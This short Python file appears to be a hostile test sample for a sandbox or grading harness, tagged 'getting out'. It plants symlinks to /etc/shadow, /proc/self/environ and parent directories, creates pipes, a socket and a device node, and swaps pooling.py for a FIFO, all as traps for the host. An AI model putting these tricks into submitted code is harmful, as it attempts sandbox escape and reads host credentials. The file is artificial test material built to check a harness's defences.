# Leaves symbolic links, pipes, sockets and devices in its folder for the host to follow later.
# kind: getting out
# verdicts: passed
import os
import socket
import stat

for number, target in enumerate(("/etc/shadow", "/proc/self/environ", "/dev/zero", "../../..", ".")):
    os.symlink(target, f"link{number}")
os.mkfifo("results")
socket.socket(socket.AF_UNIX).bind("socket")
try:
    os.mknod("null", 0o666 | stat.S_IFCHR, os.makedev(1, 1))
    raise RuntimeError("a device")
except OSError:
    pass
os.unlink("pooling.py")
os.mkfifo("pooling.py")


def pool(hidden, padding):
    real = (~padding).unsqueeze(-1).to(hidden.dtype)
    return (hidden * real).sum(1) / real.sum(1)
